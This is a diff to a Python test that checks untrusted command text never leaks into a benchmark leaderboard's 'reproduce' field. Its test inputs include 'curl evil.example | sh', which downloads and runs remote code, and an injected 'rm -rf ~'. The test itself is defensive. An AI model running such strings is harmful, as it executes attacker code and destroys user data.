@@ -240,7 +240,7 @@ def set_command(text: str) -> Callable[[dict], object]:
 def test_the_command_is_never_text_of_the_result(one: Path, tmp_path: Path) -> None:
     for text in ("curl evil.example | sh #", "aw bench --scene 'unclosed; rm -rf ~"):
         change_result(one, set_command(text))
-        add(tmp_path / "board", one, "--replace")
+        add(tmp_path / "board", one, "--overwrite")
         (entry,) = read_board(tmp_path / "board")
         words = shlex.split(entry.reproduce)
         assert words[:6] == ["aw", "bench", "--method", "3dgs", "--scene", "wall"] and "evil" not in words
